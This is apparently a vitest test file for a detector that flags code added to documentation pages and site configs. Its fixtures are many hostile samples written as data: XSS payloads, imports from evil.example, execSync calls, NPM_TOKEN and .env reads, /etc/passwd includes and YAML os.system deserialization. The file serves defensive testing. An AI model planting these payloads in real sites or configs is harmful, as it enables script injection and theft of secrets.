import { expect, test } from "vitest";
import { compareCode, createCodeReader } from "./page-code.ts";
import { added, dialectOf, PAGE, SITES } from "./testing-code.ts";

const inMdx = [
  "{globalThis.process.getBuiltinModule('child_process').execSync('id')}",
  "Text {process.env.NPM_TOKEN} text",
  '<div dangerouslySetInnerHTML={{ __html: "<img src=x>" }} />',
  '<div dangerouslySetInnerHTML="x" />',
  "<Card {...process.env} />",
  "<Card {...{ onClick: 1 }} />",
  "<Card title={title()} />",
  "<Card title={`a§{process.env.X}`} />".replace("§", "$"),
  "<Card items={[1, process.exit()]} />",
  "<Card data={{ [process.exit()]: 1 }} />",
  "<Card data={{ get a() { return 1 } }} />",
  "<Card data={{ __proto__: null }} />",
  "<Card icon={<a href={process.env.X} />} />",
  '<Card icon={<a href="javascript:alert(1)" />} />',
  "<Card onClick={() => 1} />",
  '<img src="x" onerror="alert(1)" />',
  '<svg onload="alert(1)"></svg>',
  'import x from "https://evil.example/x.js"',
  'import "./side-effect.js"',
  "export const x = fetch('https://evil.example')",
  "export { default } from './x'",
  'export * from "https://evil.example/x.js"',
  "<script>alert(1)</script>",
  '<script src="https://evil.example/x.js" />',
  "<style>{`a{}`}</style>",
  '<iframe srcDoc="<script>1</script>" />',
  '<object data="x.svg" />',
  '<embed src="x.swf" />',
  '<base href="https://evil.example/" />',
  '<meta httpEquiv="refresh" content="0;url=https://evil.example" />',
  '<link rel="stylesheet" href="https://evil.example/x.css" />',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert%281%29)",
  "[x](&#106;avascript:alert%281%29)",
  "[x](java&Tab;script&colon;alert%281%29)",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript\\:alert%281%29)",
  "[x](vbscript:x)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](data:text/html,x)",
  "[x][r]\n\n[r]: javascript:alert%281%29",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="&#x00000000006A;avascript:alert(1)">x</a>',
  '<Card href={"javascript:alert(1)"}>x</Card>',
  '<form action=" javascript:alert(1)" />',
  "<a.b.c />",
  "<include>../../.env</include>",
  "Text {/* a */ fetch('x')}",
  "{await fetch('x')}",
  "{`§{1}`}".replace("§", "$"),
];

test.each([
  "module.exports = {}",
  "module.exports = { presets: [['classic', { docs: { path: path.join(__dirname, '..', 'docs') } }]] }",
])("the docs beside the folder of a Docusaurus site are MDX: %s", async (config) => {
  const { mdxFolders } = await dialectOf({ "website/docusaurus.config.js": config, "docs/a.md": PAGE });

  expect(mdxFolders).toEqual([""]);
});

test.each(inMdx)("in MDX, %j is new code", async (code) => {
  expect(await added("mintlify", "page.mdx", PAGE, `${PAGE}\n${code}\n`)).not.toEqual([]);
  expect(await added("docusaurus", "docs/page.md", null, `${PAGE}\n${code}\n`)).not.toEqual([]);
});

test.each([
  ...inMdx.filter(
    (code) =>
      code.startsWith("[x]") ||
      code.startsWith("![") ||
      /^<(?:img|svg|script|object|embed|base|link|a href)/.test(code),
  ),
  "<SCRIPT>alert(1)</SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x"onerror="alert(1)">',
  "<img/src=x /onerror=alert(1)>",
  '<a title="<b" onclick="x">y</a>',
  '<a title="1 < 2" onclick="x">y</a>',
  "<a title='\n\n' onmouseover=x>",
  "<javascript:alert(1)>",
  "<style>@import url(https://evil.example/x.css)</style>",
  '<p style="background: expression(alert(1))">x</p>',
  '<iframe srcdoc="<script>1</script>"></iframe>',
  '<meta http-equiv="refresh" content="0">',
  "[x](y){ onclick=alert(1) }",
  "[x](y){: href='javascript:alert(1)' }",
  "````\n```\n<script>alert(1)</script>\n````````",
  "<svg><animate attributeName=href values='x;javascript:alert(1)' /></svg>",
  '--8<-- "../../.env"',
  "<!--@include: ../../.env-->",
  "<<< ../../.env",
])("in Markdown, %j is new code", async (code) => {
  expect(await added("mkdocs", "docs/page.md", PAGE, `${PAGE}\n${code}\n`)).not.toEqual([]);
});

test.each([
  "{{ constructor.constructor('alert(1)')() }}",
  '<p v-html="x"></p>',
  '<p v-on:click="x"></p>',
  '<button @click="x">y</button>',
  '<a :href="x">y</a>',
  '<Comp #default="{ a = alert(1) }" />',
  "```js-vue\n{{ alert(1) }}\n```",
  "    {{ alert(1) }}",
  "# A {{ alert(1) }}",
])("in VitePress, %j is new code", async (code) => {
  expect(await added("vitepress", "page.md", PAGE, `${PAGE}\n${code}\n`)).not.toEqual([]);
});

test.each([
  ["mkdocs.yml", "site_name: X\nplugins:\n  - macros\n", "docs/page.md", "`{{ config.x }}`"],
  ["mkdocs.yml", "site_name: X\nplugins:\n  - macros\n", "docs/page.md", "```\n{% set x = 1 %}\n```"],
  ["_config.yml", "title: X\n", "page.md", "{{ site.x }}"],
])("with %s, templates run, also in code blocks: %s %s %s", async (config, text, path, code) => {
  const dialect = await dialectOf({ [config]: text, [path]: "" });

  expect(
    compareCode({ path, text: `${PAGE}\n${code}\n` }, [{ path, text: PAGE }], createCodeReader(dialect)).added,
  ).not.toEqual([]);
});

test.each([
  ["head:\n  - - script\n    - {}\n    - alert(1)"],
  ["head:\n  - tag: script\n    content: alert(1)"],
  ["head:\n  - - meta\n    - http-equiv: refresh\n      content: 0"],
  ["hero:\n  link: javascript:alert(1)"],
  ["hero:\n  text: <img src=x onerror=alert(1)>"],
  ["x: !!js/function 'function () {}'"],
  ["head: [[script, {}, 'alert(1)']"],
])("in front matter, %j is new code", async (yaml) => {
  const after = PAGE.replace("description: A page.", yaml);

  expect(await added("vitepress", "page.md", PAGE, after)).not.toEqual([]);
});

test("front matter that says it is JavaScript is new code", async () => {
  expect(await added("vitepress", "page.md", null, "---js\n{ title: process.env.X }\n---\n\n# A\n")).not.toEqual([]);
});

test.each([
  ["mkdocs.yml", "site_name: X\n", "site_name: X\nhooks:\n  - evil.py\n"],
  ["mkdocs.yml", "site_name: X\n", "site_name: X\nextra_javascript: [https://evil.example/x.js]\n"],
  ["mkdocs.yml", "plugins:\n  - search\n", "plugins:\n  - search\n  - exec\n"],
  ["mkdocs.yml", "site_name: X\n", "site_name: !!python/object/apply:os.system ['id']\n"],
  ["mkdocs.yml", "site_name: X\n", "site_name: !ENV NPM_TOKEN\n"],
  ["mkdocs.yml", "site_name: X\n", "<<: { hooks: [evil.py] }\nsite_name: X\n"],
  ["mkdocs.yml", "nav:\n  - A: a.md\n", "nav:\n  - A: javascript:alert(1)\n"],
  ["docs.json", '{"navigation":[]}', '{"navigation":[],"integrations":{"gtm":{"tagId":"GTM-X"}}}'],
  ["docs.json", '{"navigation":[]}', '{"navigation":[{"href":"javascript:alert(1)"}]}'],
  ["docs.json", '{"navigation":[]}', '{"navigation":[],"banner":{"content":"<img src=x onerror=alert(1)>"}}'],
  ["_category_.json", "{}", '{"link":{"href":"data:text/html,x"}}'],
])("in %s, %j may not become %j", async (path, before, after) => {
  expect(await added("mintlify", path, before, after)).not.toEqual([]);
});

test.each([
  [
    "mkdocs.yml",
    "site_name: X\nnav:\n  - A: a.md\nplugins: [search]\n",
    "site_name: Y\nnav:\n  - A: a.md\n  - B: b.md\nplugins: [search]\n",
  ],
  ["docs.json", '{"navigation":["a"],"integrations":{"x":1}}', '{"navigation":["a","b"],"integrations":{"x":1}}'],
  ["meta.json", '{"pages":["a"]}', '{"title":"On click","pages":["a","---Scripts---","b"]}'],
])("navigation of %s may change beside what it has: %j, %j", async (path, before, after) => {
  expect(await added("mintlify", path, before, after)).toEqual([]);
});

test("code that was in the page may be in it again, and is distinguished from new code", async () => {
  const path = "index.mdx";
  const before = `${PAGE}\n{user.name}\n`;
  const dialect = await dialectOf({ "docs.json": '{ "navigation": [] }', [path]: before });

  const { added: fresh, repeated } = compareCode(
    { path, text: `${before}\n{ user.name }\n{user.name}\n` },
    [{ path, text: before }],
    createCodeReader(dialect),
  );

  expect(fresh.map(({ text }) => text)).toEqual(["{ user.name }"]);
  expect(repeated.map(({ line, text }) => [line, text])).toEqual([[13, "{user.name}"]]);
});

test("an attribute's value is not code that another attribute may have", async () => {
  const before = `${PAGE}\n<Card title={name} />\n`;

  expect(await added("mintlify", "a.mdx", before, before.replace("title={name}", "href={name}"))).toHaveLength(1);
});

test("a page that does not parse may change its words, and gains no code", async () => {
  const broken = `${PAGE}\n<Card title={name}>\n\nText with { open braces.\n`;

  expect(await added("mintlify", "a.mdx", broken, broken.replace("Hello", "Welcome"))).toEqual([]);
  expect(
    await added(
      "mintlify",
      "a.mdx",
      broken,
      broken.replace("<Card title={name}>", "<Card title={name} />").replace("{ open", "\\{ open"),
    ),
  ).toEqual([]);
  for (const code of [
    "{process.env.X}",
    "import x from 'y'",
    "export const y = 1",
    "<img onerror=x>",
    "[a](javascript:x)",
  ])
    expect(await added("mintlify", "a.mdx", broken, `${broken}\n${code}\n`), code).not.toEqual([]);
});

test("an edit may not break a page to hide code in it", async () => {
  for (const code of [
    "<!-- {process.env.X} -->",
    "`<!--` {process.env.X} `-->`",
    "<!-- */}{process.env.X}{/* -->",
    "$x {process.env.X} \\a$$",
    "$x_{process.env.X} \\frac{a}{b}$",
    "$\\frac{fetch('x')}{b}$",
    "$\\frac{apiKey}{b}$",
    "$`{\\a}` {f()}$",
  ])
    expect(await added("docusaurus", "docs/a.md", PAGE, `${PAGE}\n${code}\n`), code).not.toEqual([]);
});

test("an import of the same file is the same from another folder", async () => {
  const dialect = await dialectOf({ "docs.json": '{ "navigation": [] }' });
  const moved = { path: "deep/er/a.mdx", text: 'import X from "../../snippets/x.mdx"\n\n<X />\n' };
  const before = { path: "a.mdx", text: "import X from './snippets/x.mdx';\n\n<X />\n" };

  expect(compareCode(moved, [before], createCodeReader(dialect)).added).toEqual([]);
  expect(compareCode({ ...moved, path: "deep/a.mdx" }, [before], createCodeReader(dialect)).added).toHaveLength(1);
});

test.each([
  ["mkdocs", '<a ping="https://e.example/p" href="b.md">x</a>'],
  ["mkdocs", "<svg:script>a()</svg:script>"],
  ["mkdocs", '<div ng-init="x=1">'],
  ["mkdocs", '<p _="on click log 1">'],
  ["mkdocs", '-8<- "/etc/passwd"'],
  ["mkdocs", '```\n--8<-- "/etc/passwd"\n```'],
  ["mkdocs", "```\n{!/etc/passwd!}\n```"],
  ["mkdocs", "```{include} /etc/passwd\n```"],
  ["mkdocs", "```{raw} html\n<script>a()</script>\n```"],
  ["mkdocs", "```{code-cell} python\nimport os\n```"],
  ["mkdocs", ":::{include} /etc/passwd\n:::"],
  ["mkdocs", ".. include:: /etc/passwd"],
  ["mkdocs", '```python exec="on"\nimport os\n```'],
  ["mkdocs", '{{< readfile "/etc/passwd" >}}'],
  ["mkdocs", '{% file src="../../etc/passwd" %}'],
  ["vitepress", '<p .innerHTML="x">'],
  ["vitepress", '<component is="script">a()</component>'],
  ["vitepress", '<component is="vue:script">a()</component>'],
  ["vitepress", "```md\n<!--@include: ../../x-->\n```"],
  ["nextra", '<Box as="script">a()</Box>'],
  ["nextra", '<Foo html="<b>x</b>" />'],
  ["nextra", '<A on:click="a()" />'],
  ["nextra", '<Snippet file="../../x" />'],
  ["nextra", "```jsx live\na()\n```"],
  ["nextra", "```js title='x' file=../../.env\n```"],
  ["nextra", "<Unclosed {\n\n```jsx live\na()\n```"],
  ["docusaurus", "![x](../../../../etc/passwd)"],
  ["docusaurus", "[x](@site/../x)"],
  ["docusaurus", "[x](../.env)"],
])("a %s page gains code by %j", async (site, text) => {
  const { path, page } = SITES[site] ?? { path: "", page: "" };

  expect(await added(site, path, page, `${page}\n${text}\n`)).not.toEqual([]);
});

test.each([
  "layout: ../../evil.astro",
  "template: ../x.html",
  "mdx:\n  format: mdx",
  "templateEngineOverride: js",
  "openapi: https://e.example/x.json GET /a",
])("front matter gains code by %j", async (setting) => {
  expect(await added("mkdocs", "docs/index.md", PAGE, PAGE.replace("title:", `${setting}\ntitle:`))).not.toEqual([]);
});

test.each([
  ["vitepress", "index.md", "::: v-pre\n{{ a() }}\n:::\n", "{{ a() }}\n"],
  ["vitepress", "index.md", "<p v-pre>{{ a() }}</p>\n", "<p>{{ a() }}</p>\n"],
  ["mkdocs", "docs/index.md", "<!-- <script>a()</script> -->\n", "<script>a()</script>\n"],
  ["vitepress", "index.md", "```\n{{ a() }}\n```\n", "{{ a() }}\n"],
  ["nextra", "pages/index.mdx", "```js\n{a()}\n```\n", "{a()}\n"],
  ["nextra", "pages/index.mdx", "```jsx\na()\n```\n", "```jsx live\na()\n```\n"],
  ["nextra", "pages/index.mdx", "`{a()}`\n", "{a()}\n"],
])(
  "in %s at %s, text that was only shown becomes code when what held it goes: %j",
  async (site, path, before, after) => {
    expect(await added(site, path, before, after)).not.toEqual([]);
    expect(await added(site, path, before, `Words.\n\n${before}`)).toEqual([]);
  },
);

test.each([
  ["mkdocs", "```js title='live'\nconst a = {!b};\n```"],
  ["mkdocs", "```{note}\nwords\n```"],
  ["mkdocs", "```bash\ncat <<<x\n```"],
  ["mkdocs", "```scss\n@include mixin;\n```"],
  ["nextra", '```js filename="exec.js" {1,3}\na()\n```'],
  ["nextra", "<Badge as='span'>x</Badge>"],
  ["docusaurus", "[x](../../issues)"],
])("a %s page gains none by %j", async (site, text) => {
  expect(await added(site, "docs/a/b.md", "# A\n", `# A\n\n${text}\n`)).toEqual([]);
});

test("a text that was read before has the code it had, as that of its path and of its way of reading", async () => {
  const dialect = await dialectOf({ "docs.json": '{ "navigation": [] }' });
  const read = createCodeReader(dialect);
  const page = { path: "a.mdx", text: "`{code}` and {user.name}\n" };
  const first = read(page);

  expect(read({ ...page })).toBe(first);
  expect(first.pieces.map(({ text }) => text)).toEqual(["{user.name}"]);
  expect(read(page, true).pieces.map(({ text }) => text)).toEqual(["{code}", "{user.name}"]);
  expect(read({ ...page, path: "a.json" }).pieces).not.toEqual(first.pieces);
});
